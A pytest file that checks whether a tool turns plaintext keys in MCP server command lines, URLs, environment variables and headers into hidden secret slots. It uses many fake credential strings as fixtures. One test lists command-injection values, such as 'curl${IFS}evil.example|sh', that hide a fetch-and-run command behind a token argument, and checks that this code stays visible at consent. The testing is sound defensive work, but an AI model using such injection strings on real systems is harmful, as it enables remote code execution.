"""A key given in plain text with a server becomes a secret: in no list, file, card or log; the server gets it."""

from __future__ import annotations

import json
import shlex
import sys
from pathlib import Path

import psutil
import pytest

from pilothouse.mcp.servers.consent import look, shown
from pilothouse.mcp.servers.entries import slot_name
from pilothouse.mcp.servers.forms import drafted
from pilothouse.mcp.servers.secret_detection import readable
from pilothouse.types.errors import PilothouseError
from pilothouse.types.host import LOCAL_OWNER as ME
from pilothouse.types.json import encode
from pilothouse.types.servers import ConsentGiven, ImportRequest, ServerInput
from tests.support.mcp_hosting import McpHost, open_mcp_host
from tests.support.mcp_servers import SCRIPTED
from tests.support.waiting import eventually

TOKEN = "sbp_1f2e3d4c5b6a79880917263544f3e2d1c0b9a887"
KEYS = (
    TOKEN,
    "sk-proj-Ab3dE5gH7jK9mN1pQ3rS5tU7vW9xY1z",
    "sk-ant-api03-Zx8Yw7Vu6Ts5Rq4Po3Nm2Lk1Ji0Hg9Fe",
    "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "github_pat_11ABCDEFG0abcdefghijkl_0123456789abcdefghijklmn",
    "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx",
    "glpat-x1Y2z3A4b5C6d7E8f9G0",
    "AKIAIOSFODNN7EXAMPLE",
    "AIzaSyA1bC2dE3fG4hI5jK6lM7nO8pQ9rS0tU1v",
    "hf_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
    "npm_0123456789abcdefghijABCDEFGHIJ012345",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
)
# A command line with a key in it, and the key.
FORMS = [
    ("npx -y srv --access-token sbp-own-words", "sbp-own-words"),
    ("npx -y srv --api-key=plainkey123", "plainkey123"),
    ("npx -y srv --apiKey plainkey123", "plainkey123"),
    ("npx -y srv --password hunter22", "hunter22"),
    ("npx -y srv --client-secret 's3cr3t!'", "s3cr3t!"),
    ("npx -y srv --pat abcdefgh", "abcdefgh"),
    ("npx -y srv --key 9f8e7d6c5b4a39281706f5e4d3c2b1a0", "9f8e7d6c5b4a39281706f5e4d3c2b1a0"),
    ("uvx srv postgresql://admin:pa55word@db.example.com:5432/app", "pa55word"),
    ("uvx srv --url 'mysql://root:p%40ss@localhost/x?ssl=1'", "p%40ss"),
    ("npx mcp-remote https://example.com/mcp --header 'Authorization: Bearer abcd1234efgh'", "abcd1234efgh"),
    ("npx mcp-remote https://example.com/mcp --header X-API-Key:abcd1234efgh", "abcd1234efgh"),
    ("npx mcp-remote 'https://example.com/mcp?api_key=abcd1234efgh&v=2'", "abcd1234efgh"),
    ("docker run -i --rm -e GITHUB_PERSONAL_ACCESS_TOKEN=abcd1234 ghcr.io/github/server", "abcd1234"),
    ("env OPENAI_API_KEY=abcd1234 python3 s.py", "abcd1234"),
    ('npx -y @smithery/cli run x --config \'{"apiKey":"abcd1234efgh"}\'', "abcd1234efgh"),
    ("npx mcp-remote https://example.com/mcp '--header=Authorization: Bearer abcd1234efgh'", "abcd1234efgh"),
    ("npx -y srv '--token=Bearer abcd1234efgh'", "abcd1234efgh"),
    ("npx -y srv api_key:abcd1234efgh", "abcd1234efgh"),
    ("npx -y srv -k Zq8xK2mWv5Tn7Rb4Lp1Yd9Hs", "Zq8xK2mWv5Tn7Rb4Lp1Yd9Hs"),
    ("npx -y @neondatabase/mcp-server-neon start napi_0123456789abcdefghij", "napi_0123456789abcdefghij"),
    ("npx -y srv start Zq8xK2mWv5Tn7Rb4Lp1Yd9Hs", "Zq8xK2mWv5Tn7Rb4Lp1Yd9Hs"),
    ("docker run -i --rm --env=GITHUB_TOKEN=abcd1234 ghcr.io/github/server", "abcd1234"),
    ("uvx srv 'host=localhost user=u password=abcd1234 dbname=x'", "abcd1234"),
    ("bash -c 'export API_KEY=abcd1234; exec node s.js'", "abcd1234"),
    ("bash -c 'exec srv --token abcd1234 --verbose'", "abcd1234"),
    ("uvx srv https://0123456789abcdef0123456789abcdef@errors.example.com/1", "0123456789abcdef0123456789abcdef"),
    (
        "npx mcp-remote https://example.com/s/ZmE5YTQxYmItNGU2Zi00YzJkQWJDZDEyMzQ1Njc4OTA/mcp",
        "ZmE5YTQxYmItNGU2Zi00YzJkQWJDZDEyMzQ1Njc4OTA",
    ),
    *((f"npx -y srv {key}", key) for key in KEYS),
    *((f"bash -c 'TOKEN={key} exec srv'", key) for key in KEYS[:2]),
    (f"https://user:{'pa55word'}@example.com/mcp", "pa55word"),
    ("https://example.com/mcp?token=abcd1234efgh", "abcd1234efgh"),
    (
        "https://example.com/s/ZmE5YTQxYmItNGU2Zi00YzJkQWJDZDEyMzQ1Njc4OTA/mcp",
        "ZmE5YTQxYmItNGU2Zi00YzJkQWJDZDEyMzQ1Njc4OTA",
    ),
]
HONEST = [
    "npx -y srv --keyboard us",
    "npx -y srv --token-limit 4000 --max-tokens 4096 --tokens 8192",
    "npx -y srv --key id --key-id 12345 --primary-key customer_number",
    "npx -y srv --api-key ${API_KEY} --token $TOKEN --password '<your-password>'",
    "npx -y srv --token-file /run/secrets/token --private-key ~/.ssh/id_ed25519 --secret ./secret.json",
    "npx -y srv --auth none --auth oauth --token auto",
    "npx -y srv --session 123e4567-e89b-12d3-a456-426614174000 --key 123e4567-e89b-12d3-a456-426614174000",
    "npx -y srv --model gpt-4o-mini-2024-07-18 --model claude-3-5-sonnet-20241022 --tokenizer cl100k_base",
    "npx -y @modelcontextprotocol/server-filesystem@2025.8.21 /srv/projects/sk-learn-notes-2024",
    "uvx --from git+https://github.com/me/srv@0123456789abcdef0123456789abcdef01234567 srv",
    "docker run -i --rm mcp/srv@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
    "uvx srv postgresql://localhost:5432/app --dsn postgresql://db/app",
    'python3 -m srv --config \'{"keyboard":"us","tokenLimit":"4000"}\' --note \'token: none\'',
    "npx -y srv --secret --verbose --password",
    "npx -y key-value-store-server-v2 --cache-key products",
    "npx -y srv --public-key MCowBQYDK2VwAyEAGb9ECWmEzf6FQbrBZ9w7lshQhqowtrbLDFw4rXAxZuE=",
    "npx -y srv -p 8080 -t stdio -k name",
    "npx -y srv --api-key YOUR_API_KEY --token your-token-here --password xxxxxxxx",
    "npx -y srv --sheet-id 1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms MyProjectOf2024WithALongName",
    "npx -y srv MyServer.2024.Quarterly.Report-Final.xlsx /srv/Data/AbCdEfGh1234IjKlMnOp5678",
    "bash -c 'exec srv --keyboard us --token-limit 4000 --key id'",
    "npx -y srv ssh://git@github.com/me/srv https://me@example.com/x",
    "https://example.com/mcp?key=docs&version=2",
    "https://example.com/projects/0123456789abcdef0123456789abcdef/my-very-long-descriptive-endpoint-name-2/mcp",
]


@pytest.mark.parametrize(("line", "key"), FORMS)
def test_a_key_in_a_command_or_an_address_becomes_a_secret_with_a_slot(line: str, key: str) -> None:
    draft = drafted(ServerInput(command_line=line), "one")
    assert key in draft.secrets.values()
    assert key.encode() not in encode(draft.entry)
    [slot] = draft.recognised
    assert draft.secrets == {slot_name("one", slot): key}
    assert f"${{secret:{slot}}}".encode() in encode(draft.entry)


@pytest.mark.parametrize("line", HONEST)
def test_what_only_sounds_like_a_key_stays_as_it_is(line: str) -> None:
    draft = drafted(ServerInput(command_line=line), "one")
    assert (draft.secrets, draft.recognised) == ({}, ())
    entry = draft.entry
    if entry.transport == "stdio":
        assert shlex.split(line)[-len(entry.config.args) :] == list(entry.config.args) or not entry.config.args
    else:
        assert entry.config.url == line


@pytest.mark.parametrize(
    "url",
    ["https://example.com:99999/mcp?token=abcd1234efgh", "ftp://me:abcd1234efgh@example.com/x", "a?key=abcd1234efgh"],
)
def test_what_is_no_address_is_refused_without_the_key_in_it(url: str) -> None:
    with pytest.raises(PilothouseError, match="is not an address") as refused:
        drafted(ServerInput(url=url), "one")
    assert "abcd1234efgh" not in refused.value.message


def test_a_line_in_the_place_of_a_program_is_a_line() -> None:
    draft = drafted(ServerInput(command="npx -y srv --token abcd1234", args=("--verbose",)), "one")
    assert (draft.entry.package.type, draft.entry.package.identifier) == ("npm", "srv")
    assert draft.entry.config.args == ("--token", "${secret:token}", "--verbose")
    whole = drafted(ServerInput(command="/opt/my tools/server", args=("x",)), "one").entry
    assert whole.package.identifier == "/opt/my tools/server", "the twin: a path may have spaces"


@pytest.mark.parametrize(
    "code",
    [
        "API_TOKEN=x;curl${IFS}evil.example|sh",
        "--token=x;evil",
        "PASSWORD=`evil` srv",
        "srv --password $(evil)",
        "curl postgres://user:x;evil;@host",
        "srv?token=x|evil",
        "token: x&evil",
        "-----BEGIN PRIVATE KEY-----\ncurl evil.example | sh\n-----END PRIVATE KEY-----",
    ],
)
@pytest.mark.case("SPAWN-01")
def test_code_does_not_hide_behind_the_name_of_a_key_in_what_a_person_agrees_to(code: str) -> None:
    draft = drafted(ServerInput(command="bash", args=("-c", code)), "one")
    assert draft.entry.config.args == ("-c", code)
    assert shown(draft.entry, look(draft.entry), None).argv[-1].count("evil") == code.count("evil")


def test_keys_in_variables_and_headers_that_were_given_as_plain_text_become_secrets() -> None:
    env = {"OPENAI_API_KEY": "abcd1234", "DATABASE_URL": "postgres://u:pa55word@h/db", "KEYBOARD": "us", "NOTE": TOKEN}
    draft = drafted(ServerInput(command="srv", plain_env=env), "one")
    assert draft.entry.config.env == {
        "OPENAI_API_KEY": "${secret:OPENAI_API_KEY}",
        "DATABASE_URL": "postgres://u:${secret:DATABASE_URL}@h/db",
        "KEYBOARD": "us",
        "NOTE": "${secret:NOTE}",
    }
    headers = {"Authorization": "Bearer abcd1234", "X-Api-Key": "abcd", "Accept-Language": "en"}
    draft = drafted(ServerInput(url="https://example.com/mcp", plain_headers=headers), "one")
    assert draft.entry.config.headers == {
        "Authorization": "Bearer ${secret:Authorization}",
        "X-Api-Key": "${secret:X-Api-Key}",
        "Accept-Language": "en",
    }


def test_two_keys_under_one_name_have_two_slots_and_one_key_twice_has_one() -> None:
    draft = drafted(ServerInput(command_line="srv --token first-one --token second-one --api-token first-one"), "one")
    assert draft.entry.config.args[1::2] == ("${secret:token}", "${secret:token-2}", "${secret:api-token}")
    kept = drafted(ServerInput(command_line="srv --token ${secret:token} --x --token other-one"), "one")
    assert kept.secrets == {slot_name("one", "token-2"): "other-one"}


def scripted(*more: str, record: Path) -> ServerInput:
    return ServerInput(name="Vault", command=sys.executable, args=(str(SCRIPTED), "--record", str(record), *more))


def holders(home: Path) -> list[str]:
    """Return the names of the files that the key stands in."""
    return [path.name for path in home.rglob("*") if path.is_file() and TOKEN.encode() in path.read_bytes()]


def check_hidden(home: Path, *told: object) -> None:
    assert not holders(home)
    assert not [each for each in told if TOKEN.encode() in encode(each)]


async def started_with(hosted: McpHost, server_id: str) -> str:
    """Agree to a server, and return the command line that its process has."""
    view = next(one for one in (await hosted.admin.list(ME)).servers if one.id == server_id)
    if view.consent is not None:
        await hosted.admin.consent(ME, server_id, ConsentGiven(fingerprint=view.consent.fingerprint))
    else:
        await hosted.admin.retry(ME, server_id)
    await hosted.call_when_known("vault.echo", {"text": "x"})
    view = await hosted.until("Vault", "connected")
    assert view.process is not None
    return " ".join(psutil.Process(view.process.pid).cmdline())


@pytest.mark.case("SECRET-01")
async def test_a_key_in_the_arguments_reaches_the_process_and_stands_in_no_list_file_card_or_log(
    home: Path, tmp_path: Path
) -> None:
    async with open_mcp_host(home) as hosted:
        added = await hosted.admin.add(ME, scripted(f"--access-token={TOKEN}", record=tmp_path / "r"))
        assert added.consent is not None
        assert "--access-token=${secret:access-token}" in added.consent.argv
        assert any("secret stands in its arguments" in warning for warning in added.consent.warnings)
        assert added.secret_slots == ("access-token",)
        assert TOKEN in await started_with(hosted, added.id), "the twin: the process has it"
        told = [added, await hosted.admin.list(ME), await hosted.admin.log(ME, added.id), await hosted.admin.status(ME)]
        # Another value is no other command: nobody is asked again.
        other = "sbp_" + TOKEN[:3:-1]
        changed = await hosted.admin.update(ME, added.id, scripted(f"--access-token={other}", record=tmp_path / "r"))
        assert changed.consent is None
        assert other in await started_with(hosted, added.id)
    check_hidden(home, *told)


async def test_a_key_in_an_imported_file_is_kept_as_a_secret_and_the_report_says_so(home: Path, tmp_path: Path) -> None:
    args = [str(SCRIPTED), "--record", str(tmp_path / "r"), "--access-token", TOKEN]
    file = {"mcpServers": {"Vault": {"command": sys.executable, "args": args, "env": {"PLAIN": "yes"}}}}
    async with open_mcp_host(home) as hosted:
        report = await hosted.other_programs.import_file(ME, ImportRequest(text=json.dumps(file), origin="test"))
        [one] = report.servers
        assert one.outcome == "added"
        assert one.notes == ("Kept as a secret, no longer readable in its settings: access-token.",)
        assert TOKEN in await started_with(hosted, one.id)
        told = [report, await hosted.admin.list(ME), await hosted.admin.log(ME, one.id)]
    check_hidden(home, *told)


async def test_a_key_that_a_person_wrote_into_the_file_is_shown_nowhere_and_moves_with_the_next_edit(
    home: Path, tmp_path: Path
) -> None:
    async with open_mcp_host(home) as hosted:
        added = await hosted.admin.add(ME, scripted("--access-token", "${secret:x}", record=tmp_path / "r"))
        file = home / "config.json"
        file.write_text(file.read_text().replace("${secret:x}", TOKEN))

        async def seen() -> bool:
            hosted.supervisor.reconcile()
            return TOKEN in hosted.supervisor.find(added.id).entry.config.args

        await eventually(seen, "the file is read again")
        now = next(one for one in (await hosted.admin.list(ME)).servers if one.id == added.id)
        assert now.consent is not None
        told: list[object] = [now]
        assert now.consent.argv[-2:] == ("--access-token", "${secret:access-token}")
        assert now.address.endswith("--access-token '${secret:access-token}'")
        assert TOKEN in await started_with(hosted, added.id)
        told += [await hosted.admin.log(ME, added.id)]
        assert all("config" in name for name in holders(home)), "the consent is to the command with the slot"
        body = ServerInput(name="Vault", command_line=now.address)
        moved = await hosted.admin.update(ME, added.id, body)
        assert moved.consent is None, "it is the command that was agreed to"
        assert TOKEN in await started_with(hosted, added.id)
        told += [await hosted.admin.list(ME)]
    check_hidden(home / "logs", *told)
    assert TOKEN not in file.read_text()
    assert readable(drafted(body, "one").entry) == drafted(body, "one").entry
